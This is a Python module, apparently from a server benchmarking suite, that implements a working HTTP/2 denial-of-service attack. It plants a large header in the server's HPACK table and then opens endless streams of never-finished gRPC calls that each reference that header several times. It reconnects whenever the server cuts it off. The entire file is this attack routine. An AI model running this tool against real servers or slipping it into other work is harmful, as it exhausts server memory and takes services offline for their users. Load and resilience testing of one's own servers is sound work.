"""Headers that are small on the wire and large in memory, in bare HTTP/2: a table entry that many calls refer to."""

import socket
import struct
import time
from contextlib import suppress

from benchmarks.serve.halves import HEADERS, PREFACE, SETTINGS, encoded_text, frame

_VALUE, _TIMES = 3_900, 3
"""Bytes of the entry, which the server's table has room for, and how often each call refers to it."""
_INDEX = 62
"""Index of the newest entry of the table."""
_AT_ONCE, _PAUSE, _ENDS_HEADERS = 50, 0.01, 4


def hold_headers(address: str, path: str) -> None:
    """Open calls that never end, as fast as the server takes them; where it cuts the connection, through another."""
    while True:
        with suppress(OSError):
            _flood(address, path)
        time.sleep(_PAUSE)


def _flood(address: str, path: str) -> None:
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=5.0) as connection:
        names = {":method": "POST", ":scheme": "http", ":path": path, ":authority": address}
        names |= {"te": "trailers", "content-type": "application/grpc"}
        call = b"".join(b"\0" + encoded_text(name) + encoded_text(value) for name, value in names.items())
        length = struct.pack("<B", 0x7F) + _rest(_VALUE - 0x7F)
        entry = b"\x40" + encoded_text("large") + length + b"x" * _VALUE
        connection.sendall(PREFACE + frame(SETTINGS) + frame(HEADERS, call + entry, _ENDS_HEADERS, 1))
        block = call + bytes([0x80 | _INDEX]) * _TIMES
        stream = 3
        while True:
            calls = range(stream, stream + 2 * _AT_ONCE, 2)
            connection.sendall(b"".join(frame(HEADERS, block, _ENDS_HEADERS, number) for number in calls))
            stream += 2 * _AT_ONCE
            connection.settimeout(_PAUSE)
            with suppress(TimeoutError):
                if not connection.recv(1 << 16):
                    return
            connection.settimeout(5.0)


def _rest(number: int) -> bytes:
    """Return the bytes of an integer of HPACK beyond its prefix."""
    found = b""
    while number >= 0x80:
        found, number = found + bytes([number & 0x7F | 0x80]), number >> 7
    return found + bytes([number])
